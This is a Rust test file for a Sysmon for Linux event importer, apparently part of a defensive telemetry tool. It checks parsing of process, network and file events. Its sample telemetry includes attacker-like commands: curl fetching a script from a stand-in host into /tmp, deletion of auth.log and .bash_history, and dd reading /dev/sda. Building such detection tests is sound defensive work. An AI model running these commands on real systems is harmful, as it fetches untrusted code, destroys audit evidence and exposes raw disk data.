//! The Sysmon for Linux importer over the real fixtures (`testdata/fixtures/sysmon-linux/`)
//! and the hand-written samples (`testdata/import/sysmon/`); the helpers serve the Windows
//! tests too.

use std::path::PathBuf;

use serde_json::Value;

use super::super::testing::*;
use super::*;
use crate::import::values::text_time_ns;
use crate::import::{Counts, auditd::Auditd, detect, tetragon::Tetragon};
use crate::schema::{Detail, Event, EventKind, source_process_key};

const FIXTURES: &str = "sysmon-linux";

/// `testdata/import/sysmon/<name>`.
fn sample(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("testdata/import/sysmon")
        .join(name)
}

fn import_sample(name: &str, host: Option<&str>) -> (Vec<Event>, Counts) {
    let bytes = std::fs::read(sample(name)).expect("sample");
    let (rows, counts) = import_bytes(&Sysmon, &bytes, host);
    (events(&rows).into_iter().cloned().collect(), counts)
}

fn fixture_events(name: &str) -> (Vec<Event>, Counts) {
    let (rows, counts) = import_fixture(&Sysmon, &format!("{FIXTURES}/{name}"));
    (events(&rows).into_iter().cloned().collect(), counts)
}

fn key(host: &str, guid: &str) -> Option<String> {
    Some(source_process_key(host, "sysmon", guid))
}

pub(super) fn at(utc: &str) -> i64 {
    text_time_ns(utc).unwrap()
}

pub(super) fn extra(e: &Event) -> Value {
    serde_json::from_str(e.extra.as_deref().expect("extra")).unwrap()
}

pub(super) fn sha256(e: &Event) -> Option<&str> {
    match &e.detail {
        Detail::Process(p) => p.exe_sha256.as_deref(),
        d => panic!("not a process event: {d:?}"),
    }
}

pub(super) fn path(e: &Event) -> &str {
    match &e.detail {
        Detail::File(f) => &f.path,
        d => panic!("not a file event: {d:?}"),
    }
}

/// (src ip, src port, dst ip, dst port, protocol) of a network event.
pub(super) fn tuple(e: &Event) -> (String, u16, String, u16, &'static str) {
    match &e.detail {
        Detail::Network(n) => (
            n.src_ip.unwrap().to_string(),
            n.src_port.unwrap(),
            n.dst_ip.unwrap().to_string(),
            n.dst_port.unwrap(),
            n.protocol.as_str(),
        ),
        d => panic!("not a network event: {d:?}"),
    }
}

#[test]
fn pretty_printed_process_create_fixture() {
    let (evs, counts) = fixture_events("grapl-sysmon-parser-process_creation.xml");
    assert_eq!(
        (counts.records, counts.skipped_total()),
        (1, 0),
        "{counts:?}"
    );
    let e = &evs[0];
    assert_eq!(e.kind, EventKind::ProcessExec);
    assert_eq!((e.host_id.as_str(), e.source.as_str()), ("tux", "sysmon"));
    assert_eq!(e.container_id, None);
    assert_eq!(e.time, at("2022-01-04 19:54:15.661"));
    let p = &e.process;
    assert_eq!((p.pid, p.ppid, p.uid), (Some(49570), Some(49568), Some(0)));
    assert_eq!(p.exe.as_deref(), Some("/usr/bin/tr"));
    assert_eq!(p.comm.as_deref(), Some("tr"));
    assert_eq!(p.argv, ["tr", "[:upper:][:lower:]"]);
    assert_eq!(p.cwd.as_deref(), Some("/root"));
    assert_eq!(p.user_name.as_deref(), Some("root"));
    assert_eq!(p.start_time, Some(e.time));
    assert_eq!(p.key, key("tux", "49e2a5f6-a5e7-61d4-119e-dc77a5550000"));
    // The all-zero ParentProcessGuid: Sysmon did not see the parent start.
    assert_eq!(p.parent_key, None);
    assert_eq!(sha256(e), None);
    let x = extra(e);
    assert_eq!(x["LogonGuid"], "{49e2a5f6-0000-0000-0000-000000000000}");
    assert_eq!(x["TerminalSessionId"], "3");
    assert_eq!(x["IntegrityLevel"], "no level");
    assert_eq!(x["EventRecordID"], "77");
    assert_eq!(x["TimeCreated"], "2022-01-04T19:54:15.665400000Z");
    // `-` is no value: not kept.
    for k in [
        "RuleName",
        "ParentImage",
        "OriginalFileName",
        "Hashes",
        "CommandLine",
    ] {
        assert!(x.get(k).is_none(), "{k}: {x}");
    }
}

#[test]
fn control_character_fixture_keeps_the_character_and_the_parent() {
    let (evs, counts) = fixture_events("grapl-sysmon-parser-event_with_control_char.xml");
    assert_eq!(
        (counts.records, counts.skipped_total()),
        (1, 0),
        "{counts:?}"
    );
    let e = &evs[0];
    let p = &e.process;
    assert_eq!(e.host_id, "user-VirtualBox");
    assert_eq!(e.time, at("2022-01-20 17:02:16.949"));
    assert_eq!(p.exe.as_deref(), Some("/usr/bin/file"));
    assert_eq!(p.argv, ["file", "\u{7}"]);
    assert_eq!((p.pid, p.ppid, p.uid), (Some(1993), Some(1895), Some(1000)));
    assert_eq!(p.cwd.as_deref(), Some("/home/user"));
    assert_eq!(
        p.parent_key,
        key("user-VirtualBox", "49e2a5f6-956b-61e9-05c7-f3e008560000")
    );
    let x = extra(e);
    assert_eq!(x["ParentImage"], "/usr/bin/bash");
    assert_eq!(x["ParentCommandLine"], "bash");
    assert_eq!(x["ParentUser"], "iser");
}

#[test]
fn one_event_per_line_fixture_links_exec_and_exit_by_guid() {
    let (evs, counts) = fixture_events("grapl-parse_events.rs-lines8-10.extracted.xml");
    assert_eq!(
        (counts.records, counts.skipped_total()),
        (3, 0),
        "{counts:?}"
    );
    let kinds: Vec<_> = evs.iter().map(|e| e.kind).collect();
    use EventKind::*;
    assert_eq!(kinds, [ProcessExit, ProcessExec, ProcessExit]);
    let (exec, exit) = (&evs[1], &evs[2]);
    assert_eq!(exec.process.pid, Some(49521));
    assert_eq!(
        exec.process.argv,
        [
            "systemctl",
            "--system",
            "--full",
            "--no-legend",
            "--no-pager",
            "list-units",
            "--all",
            "sys*"
        ]
    );
    assert_eq!(
        exec.process.cwd.as_deref(),
        Some("/home/user/SysmonForLinux/build")
    );
    let guid = "49e2a5f6-a597-61d4-5d7a-861de5550000";
    assert_eq!(exec.process.key, key("user-VirtualBox", guid));
    assert_eq!(exit.process.key, exec.process.key);
    assert_eq!(exit.time, at("2022-01-04 19:52:55.688"));
    assert_eq!(exit.process.exe.as_deref(), Some("/usr/bin/systemctl"));
    assert_eq!(exit.process.user_name.as_deref(), Some("user"));
    let first = &evs[0];
    assert_eq!(first.process.pid, Some(49520));
    assert_eq!(
        first.process.key,
        key("user-VirtualBox", "49e2a5f6-a597-61d4-5d6a-98d813560000")
    );
    assert_eq!(extra(first)["EventRecordID"], "9");
}

#[test]
fn syslog_lines_give_lineage_network_file_and_exit() {
    let (evs, counts) = import_sample("syslog.log", None);
    // The CRON line is another program's: not a record.
    assert_eq!(
        (counts.records, counts.skipped_total()),
        (5, 0),
        "{counts:?}"
    );
    assert!(evs.iter().all(|e| e.host_id == "web-1"));
    let kinds: Vec<_> = evs.iter().map(|e| e.kind).collect();
    use EventKind::*;
    assert_eq!(
        kinds,
        [
            ProcessExec,
            ProcessExec,
            NetConnect,
            FileCreate,
            ProcessExit
        ]
    );
    let (bash, curl) = (&evs[0], &evs[1]);
    assert_eq!(bash.process.ppid, Some(2190));
    assert_eq!(
        bash.process.parent_key,
        key("web-1", "7c1a6f2e-99f8-65f0-11a0-5e2c9f550000")
    );
    assert_eq!(
        bash.process.key,
        key("web-1", "7c1a6f2e-9a10-65f0-2d1b-c8f2a1550000")
    );
    assert_eq!(curl.process.parent_key, bash.process.key);
    assert_eq!(curl.process.ppid, bash.process.pid);
    assert_eq!(
        curl.process.argv,
        [
            "curl",
            "-fsSL",
            "-o",
            "/tmp/x.sh",
            "http://203.0.113.9/x.sh"
        ]
    );
    assert_eq!(
        (curl.process.uid, curl.process.pid),
        (Some(1000), Some(2240))
    );
    assert_eq!(
        sha256(curl),
        Some("5e7d3c1f0a9b8c6d4e2f1a3b5c7d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f809")
    );
    let x = extra(curl);
    assert_eq!(x["Hashes"], "MD5=0F1E2D3C4B5A69788796A5B4C3D2E1F0");
    assert_eq!(x["ParentImage"], "/usr/bin/bash");
    let net = &evs[2];
    assert_eq!(net.time, at("2024-03-12 09:14:05.231"));
    assert_eq!(
        tuple(net),
        ("10.0.2.15".into(), 48122, "203.0.113.9".into(), 80, "tcp")
    );
    assert_eq!(net.process.key, curl.process.key);
    assert_eq!(net.process.exe.as_deref(), Some("/usr/bin/curl"));
    let x = extra(net);
    assert_eq!(x["DestinationPortName"], "http");
    assert_eq!(x["SourceIsIpv6"], "false");
    assert!(x.get("SourceHostname").is_none() && x.get("Initiated").is_none());
    let file = &evs[3];
    assert_eq!(path(file), "/tmp/x.sh");
    assert_eq!(file.process.key, curl.process.key);
    assert_eq!(extra(file)["CreationUtcTime"], "2024-03-12 09:14:05.297");
    let exit = &evs[4];
    assert_eq!(exit.process.key, curl.process.key);
    assert_eq!(exit.time, at("2024-03-12 09:14:05.351"));
}

#[test]
fn rfc3339_syslog_inbound_connection_deletes_and_the_syslog_host() {
    // --host is the last resort: <Computer>, then the syslog header, win over it.
    let (evs, counts) = import_sample("syslog-rfc3339.log", Some("elsewhere"));
    assert_eq!(
        (counts.records, counts.skipped_total()),
        (6, 0),
        "{counts:?}"
    );
    assert_eq!(counts.unmapped["sysmon event 4 (ServiceStateChange)"], 1);
    assert_eq!(
        counts.unmapped["sysmon event 16 (ServiceConfigurationChange)"],
        1
    );
    assert_eq!(evs.len(), 4);
    let accept = &evs[0];
    assert_eq!(accept.kind, EventKind::NetAccept);
    // Inbound: Source is the remote initiator, Destination this host's sshd.
    assert_eq!(
        tuple(accept),
        ("198.51.100.23".into(), 51514, "10.0.3.7".into(), 22, "tcp")
    );
    assert_eq!(accept.process.exe.as_deref(), Some("/usr/sbin/sshd"));
    assert_eq!(extra(accept)["DestinationHostname"], "db-2");
    let (archived, logged) = (&evs[1], &evs[2]);
    assert_eq!(archived.kind, EventKind::FileUnlink);
    assert_eq!(path(archived), "/var/log/auth.log");
    let x = extra(archived);
    assert_eq!(x["Hashes"], format!("SHA256={}", "B".repeat(64)));
    assert_eq!(
        (&x["IsExecutable"], &x["Archived"]),
        (&"false".into(), &"true".into())
    );
    assert_eq!(logged.kind, EventKind::FileUnlink);
    assert_eq!(path(logged), "/root/.bash_history");
    // No <Computer>: the syslog header names the host.
    assert_eq!(logged.host_id, "db-2");
    assert_eq!(logged.process.key, archived.process.key);
    assert_eq!(logged.process.pid, Some(1377));
    // RawAccessRead: a block device opened for reading.
    let raw = &evs[3];
    assert_eq!((raw.kind, path(raw)), (EventKind::FileOpenRead, "/dev/sda"));
    assert_eq!(raw.process.exe.as_deref(), Some("/usr/bin/dd"));
    assert_eq!(raw.time, at("2024-03-13 07:35:02.405"));
}

#[test]
fn json_syslog_exports_journald_and_a_table() {
    let (evs, counts) = import_sample("journal.json", None);
    assert_eq!(
        (counts.records, counts.skipped_total()),
        (2, 0),
        "{counts:?}"
    );
    let (exec, udp) = (&evs[0], &evs[1]);
    assert_eq!(exec.host_id, "app-3");
    let p = &exec.process;
    assert_eq!(p.argv, ["python3", "-c", "import", "socket"]);
    assert_eq!(p.exe.as_deref(), Some("/usr/bin/python3.11"));
    assert_eq!(p.comm.as_deref(), Some("python3.11"));
    assert_eq!(
        (p.uid, p.ppid, p.parent_key.as_deref()),
        (Some(33), Some(3290), None)
    );
    assert_eq!(p.user_name.as_deref(), Some("www-data"));
    assert_eq!(udp.kind, EventKind::NetConnect);
    assert_eq!(
        tuple(udp),
        ("fd00:10::3".into(), 40188, "2001:db8::53".into(), 53, "udp")
    );
    assert_eq!(udp.process.key, exec.process.key);
    assert!(udp.community_id().is_some());
}

#[test]
fn messy_xml_bad_entities_broken_and_cut_events() {
    let (evs, counts) = import_sample("messy.xml", None);
    assert_eq!(counts.records, 3, "{counts:?}");
    assert_eq!(counts.skipped["malformed XML"], 1);
    assert_eq!(counts.skipped["truncated event"], 1);
    assert_eq!(counts.unmapped["sysmon event 255 (Error)"], 1);
    assert_eq!(evs.len(), 1);
    let p = &evs[0].process;
    assert_eq!(evs[0].host_id, "lab-4");
    // The undefined entity and the lone ampersand are kept as written.
    assert_eq!(p.argv, ["sh", "-c", "echo&nbsp;hi", "&", "sleep", "1"]);
    // A Latin-1 byte is not UTF-8: replaced, the rest kept.
    assert_eq!(p.cwd.as_deref(), Some("/tmp/caf\u{fffd}"));
    assert_eq!(extra(&evs[0])["ParentCommandLine"], "make <all> && true");
    let cut = counts
        .first_skips
        .iter()
        .find(|s| s.reason == "truncated event")
        .unwrap();
    assert_eq!(cut.at.line, 39);
}

#[test]
fn events_without_a_host_wait_for_host_and_importing_twice_adds_nothing() {
    let ev = std::fs::read_to_string(fixture(&format!(
        "{FIXTURES}/grapl-parse_events.rs-lines8-10.extracted.xml"
    )))
    .unwrap();
    let bare = ev.replace("<Computer>user-VirtualBox</Computer>", "");
    let (rows, counts) = import_bytes(&Sysmon, bare.as_bytes(), None);
    assert_eq!(counts.skipped[crate::import::NO_HOST], 3);
    assert!(rows.is_empty());
    let (rows, counts) = import_bytes(&Sysmon, bare.as_bytes(), Some("vm-9"));
    assert_eq!(counts.skipped_total(), 0);
    assert!(events(&rows).iter().all(|e| e.host_id == "vm-9"));
    // The same events twice in one input: the copies are duplicates.
    let twice = format!("{ev}{ev}");
    let (rows, counts) = import_bytes(&Sysmon, twice.as_bytes(), None);
    assert_eq!((counts.records, counts.duplicates), (6, 3));
    assert_eq!(events(&rows).len(), 3);
}

/// Every fixture and sample.
fn inputs() -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(fixture(FIXTURES))
        .unwrap()
        .chain(std::fs::read_dir(sample("")).unwrap())
        .map(|e| e.unwrap().path())
        .filter(|p| {
            let n = p.file_name().unwrap().to_string_lossy();
            [".xml", ".log", ".json"].iter().any(|x| n.ends_with(x))
        })
        .collect();
    files.sort();
    files
}

/// Skip reasons of records (the rest are stretches that never became records).
pub(super) const RECORD_SKIPS: &[&str] = &[
    "malformed XML",
    "not a Sysmon event",
    crate::import::NO_HOST,
    "no time",
    "incomplete event",
];
pub(super) const STRETCH_SKIPS: &[&str] = &[
    "truncated event",
    "event too large",
    "line too long",
    "no event in the message",
];

#[test]
fn mangled_copies_never_panic_and_every_record_is_accounted_for() {
    let files = inputs();
    assert_eq!(files.len(), 7, "{files:?}");
    let (mut copies, mut records, mut skipped, mut rows) = (0, 0, 0, 0);
    for f in &files {
        let bytes = std::fs::read(f).unwrap();
        for m in mangled(&bytes) {
            for host in [None, Some("h")] {
                let (out, c) = import_bytes(&Sysmon, &m, host);
                let evs = events(&out).len() as u64;
                let what = f.display().to_string();
                assert_accounted(&c, evs, RECORD_SKIPS, STRETCH_SKIPS, &what);
                copies += 1;
                records += c.records;
                skipped += c.skipped_total();
                rows += evs;
            }
        }
    }
    eprintln!("{copies} mangled copies: {records} records, {rows} events, {skipped} skipped");
    assert!(rows > 0 && skipped > 0);
}

#[test]
fn sniff_takes_sysmon_for_linux_and_nothing_else() {
    for f in inputs() {
        let bytes = std::fs::read(&f).unwrap();
        assert!(Sysmon.sniff(&bytes), "{}", f.display());
        assert_eq!(detect(&bytes).unwrap().name(), "sysmon", "{}", f.display());
        assert!(!Tetragon.sniff(&bytes), "tetragon claims {}", f.display());
        assert!(!Auditd.sniff(&bytes), "auditd claims {}", f.display());
    }
    // Neither the other formats' fixtures nor texts that describe Sysmon's XML.
    let mut others = 0;
    for e in walkdir::WalkDir::new(fixture("")) {
        let e = e.unwrap();
        if e.file_type().is_file() && !e.path().to_string_lossy().contains(FIXTURES) {
            let bytes = std::fs::read(e.path()).unwrap();
            assert!(!Sysmon.sniff(&bytes), "{}", e.path().display());
            others += 1;
        }
    }
    assert!(others > 50, "{others}");
    let readme = std::fs::read(sample("README.md")).unwrap();
    assert!(!Sysmon.sniff(&readme));
    let windows = "<Event><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>\
                   </System><EventData><Data Name='UtcTime'>2024-01-01 00:00:00.000</Data>\
                   </EventData></Event>";
    assert!(!Sysmon.sniff(windows.as_bytes()));
    // A provider left out: Sysmon's EventID and UtcTime are enough.
    let bare = windows.replace("<Provider Name='Microsoft-Windows-Sysmon'/>", "");
    assert!(Sysmon.sniff(bare.as_bytes()));
    assert!(!Sysmon.sniff(b"<Events/>"));
    assert!(!Sysmon.sniff(b""));
}
